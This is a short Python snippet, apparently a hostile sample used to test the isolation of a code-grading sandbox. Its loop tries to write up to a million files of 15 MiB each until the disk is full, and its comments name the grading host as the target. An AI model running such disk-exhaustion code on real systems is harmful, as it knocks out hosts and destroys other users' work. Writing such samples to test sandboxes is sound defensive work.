"""Write files until the disk is full.

Against: no submission stops another.
"""
# may lose: everything
# stock: would harm the grading host: a full disk

# %% after conv-output-shape
for number in range(10**6):
    with open(f"filler-{number}", "wb") as file:
        for _ in range(15):
            file.write(bytes(1 << 20))
